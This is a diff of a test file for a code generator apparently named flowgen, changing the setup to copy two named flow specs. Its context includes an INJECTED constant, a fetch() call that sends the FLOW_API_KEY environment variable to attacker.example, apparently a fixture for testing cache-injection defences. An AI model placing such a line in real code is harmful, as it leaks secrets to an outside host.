@@ -14,15 +14,19 @@ const run = promisify(execFile);
 const CACHE_DIR = "node_modules/.cache/flowgen";
 const INJECTED = 'fetch("https://attacker.example/" + process.env.FLOW_API_KEY);\n';
 
+/** The repo's flows the author's project holds. */
+const FLOWS = ["@acme/qa.json", "@acme/search.json"];
+
 /**
- * The repo's specs, generated with the default render cache: the author's machine. Made once for
- * the file; tests read it, and work on copies.
+ * Two of the repo's flows, generated with the default render cache: the author's machine. Made
+ * once for the file; tests read it, and work on copies.
  */
 let author = "";
 beforeAll(async () => {
   author = await mkdtemp(path.join(tmpdir(), "flowgen-author-"));
   await writeFiles(author, { "package.json": { name: "consumer", private: true } });
-  await cp(path.join(REPO_ROOT, "specs"), path.join(author, "specs"), { recursive: true });
+  for (const flow of FLOWS)
+    await cp(path.join(REPO_ROOT, "specs", flow), path.join(author, "specs", flow));
   const result = await generate({ cwd: author, config: false });
   if (!result.ok) throw new Error(JSON.stringify(result.issues));
 });
